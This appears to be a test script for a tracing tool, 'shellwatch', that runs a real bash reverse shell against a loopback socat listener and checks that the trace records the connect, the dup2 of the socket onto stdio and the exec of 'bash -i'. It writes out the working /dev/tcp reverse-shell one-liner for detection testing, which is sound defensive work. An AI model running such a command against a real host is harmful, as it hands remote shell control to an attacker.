#!/usr/bin/env bash
# reverse_shell.sh: a real bash reverse shell on loopback under `shellwatch record`. The trace must
# show, all from the shell's pid: connect to the listener's address and port, dup2 of the socket onto
# 1, 2 and 0, and the exec of `bash -i` with sockets on stdio whose peer is the listener.
. "$(dirname "$0")/../lib.sh"
require_live "reverse shell under record"
. "$(dirname "$0")/record.bash"

trace=$SW_TMP/trace
port=$(free_port)
if ! record_start "$trace"; then
	tap_fail "record attaches" "$(cat "$SW_TMP/record.err")"
	exit 0
fi
tap_ok "record attaches and says ready"

printf 'echo remote-$((6*7))\nexit\n' |
	socat -t 5 TCP-LISTEN:"$port",bind=127.0.0.1,reuseaddr STDIO >"$SW_TMP/listener.out" 2>&1 &
wait_until 10 listening "$port" || tap_fail "listener up" "socat did not listen on $port"

bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null &
shell=$!
check "the shell ran the listener's command" wait_until 20 grep -q 'remote-42' "$SW_TMP/listener.out"
wait_until 20 pid_gone "$shell"
wait_until 10 trace_has "$trace" "^execve pid=[0-9]+ .* argv=\"bash -i\" "
check "record exits 0 on SIGTERM and prints its counts" record_stop

pid=$(trace_pid "$trace" "^connect .* family=inet addr=127\.0\.0\.1 port=$port ")
if [ -z "$pid" ]; then
	tap_fail "connect to 127.0.0.1:$port recorded" "$(grep -E '^connect' "$trace" | tail -5)"
	exit 0
fi
tap_ok "connect to 127.0.0.1:$port recorded"
ppid=$(grep -E "^connect pid=$pid " "$trace" | head -1 | sed -nE 's/.* ppid=([0-9]+) .*/\1/p')
check "connect comes from the shell or its child" test "$pid" = "$shell" -o "$ppid" = "$shell"
for n in 1 2 0; do
	check "dup2 of the socket onto $n by pid $pid" \
		trace_has "$trace" "^dup2 pid=$pid .* fd=[0-9]+ newfd=$n sock=1 => $n\$"
done
check "exec of bash -i by pid $pid with sockets on 0, 1, 2" trace_has "$trace" \
	"^execve pid=$pid .* argv=\"bash -i\" fd0=sock:inet fd1=sock:inet fd2=sock:inet "
check "exec shows the listener as peer of stdin" trace_has "$trace" \
	"^execve pid=$pid .* peer0=127\.0\.0\.1:$port local0=127\.0\.0\.1:[0-9]+ "
check "exit of pid $pid recorded" trace_has "$trace" "^exit pid=$pid .* code=[0-9]+\$"
